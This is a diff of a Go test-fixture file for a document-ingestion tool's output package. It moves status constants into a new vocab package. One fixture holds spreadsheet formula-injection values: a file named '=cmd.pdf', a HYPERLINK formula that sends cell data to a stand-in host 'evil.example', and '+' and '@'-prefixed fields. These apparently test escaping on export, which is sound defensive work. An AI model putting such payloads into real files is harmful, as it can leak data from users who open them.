@@ -2,6 +2,7 @@ package output
 
 import (
 	"encoding/json"
+	"github.com/docuparse/docuparse-ingest/internal/vocab"
 	"time"
 )
 
@@ -36,7 +37,7 @@ func completedDoc() Document {
 	return Document{
 		LocalRef:     "dpi_0001",
 		DocumentID:   "doc_clx7abc123",
-		Status:       StatusCompleted,
+		Status:       vocab.StateCompleted,
 		Source:       "/srv/invoices/inbox/2026/riverside-0091.pdf",
 		SourceName:   "inbox",
 		FileName:     "riverside-0091.pdf",
@@ -45,7 +46,7 @@ func completedDoc() Document {
 		BatchID:      "batch_abc789",
 		SubmittedAt:  tSubmitted,
 		CompletedAt:  tCompleted,
-		ResultVia:    ViaWebhook,
+		ResultVia:    vocab.ViaWebhook,
 		Data:         json.RawMessage(articleData),
 		APITimestamp: "2026-05-19T14:32:00Z",
 	}
@@ -55,7 +56,7 @@ func failedDoc() Document {
 	return Document{
 		LocalRef:     "dpi_0002",
 		DocumentID:   "doc_clx7abc456",
-		Status:       StatusFailed,
+		Status:       vocab.StateFailed,
 		Source:       "s3://acme-ap/inbox/scan-0002.pdf",
 		SourceName:   "inbox",
 		FileName:     "scan-0002.pdf",
@@ -64,7 +65,7 @@ func failedDoc() Document {
 		BatchID:      "batch_abc789",
 		SubmittedAt:  tSubmitted,
 		CompletedAt:  tCompleted.Add(5 * time.Second),
-		ResultVia:    ViaPoll,
+		ResultVia:    vocab.ViaPoll,
 		ErrorCode:    "EXTRACTION_FAILED",
 		ErrorMessage: "Document extraction failed for this file.",
 		APITimestamp: "2026-05-19T14:32:05Z",
@@ -76,7 +77,7 @@ func failedDoc() Document {
 func rejectedDoc() Document {
 	return Document{
 		LocalRef:     "dpi_0003",
-		Status:       StatusRejected,
+		Status:       vocab.StateRejected,
 		Source:       "/srv/invoices/inbox/huge-scan.pdf",
 		SourceName:   "inbox",
 		FileName:     "huge-scan.pdf",
@@ -92,7 +93,7 @@ func duplicateDoc() Document {
 	return Document{
 		LocalRef:    "dpi_0004",
 		DocumentID:  "doc_clx7abc123", // the original's id
-		Status:      StatusDuplicate,
+		Status:      vocab.StateDuplicate,
 		Source:      "/srv/invoices/inbox/copy of riverside-0091.pdf",
 		SourceName:  "inbox",
 		FileName:    "copy of riverside-0091.pdf",
@@ -111,7 +112,7 @@ func formulaDoc() Document {
 	return Document{
 		LocalRef:    "dpi_0005",
 		DocumentID:  "doc_formula01",
-		Status:      StatusCompleted,
+		Status:      vocab.StateCompleted,
 		Source:      "/srv/invoices/inbox/=cmd.pdf",
 		SourceName:  "inbox",
 		FileName:    "=cmd.pdf",
@@ -120,7 +121,7 @@ func formulaDoc() Document {
 		BatchID:     "batch_f01",
 		SubmittedAt: tSubmitted,
 		CompletedAt: tCompleted,
-		ResultVia:   ViaPoll,
+		ResultVia:   vocab.ViaPoll,
 		Data: json.RawMessage(`{"document_type":"credit_note",` +
 			`"merchant":"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",` +
 			`"invoice_id":"+1234567","date":"2026-05-02","due_date":"@SUM(A1:A9)",` +
@@ -138,7 +139,7 @@ func unicodeDoc() Document {
 	return Document{
 		LocalRef:    "dpi_0006",
 		DocumentID:  "doc_unicode01",
-		Status:      StatusCompleted,
+		Status:      vocab.StateCompleted,
 		Source:      "/srv/invoices/inbox/Ümlaut dir/" + name,
 		SourceName:  "inbox",
 		FileName:    name,
@@ -147,7 +148,7 @@ func unicodeDoc() Document {
 		BatchID:     "batch_u01",
 		SubmittedAt: tSubmitted,
 		CompletedAt: tCompleted,
-		ResultVia:   ViaWebhook,
+		ResultVia:   vocab.ViaWebhook,
 		Data: json.RawMessage(`{"document_type":"receipt","merchant":"Café Zürich <Bäckerei> & Söhne 🍰",` +
 			`"invoice_id":"R-№42","date":"2026-05-19","currency":"EUR","total":"12.30",` +
 			`"payment_method":"card","line_items":[{"description":"Croissant, \"gross\"\nmit Butter",` +
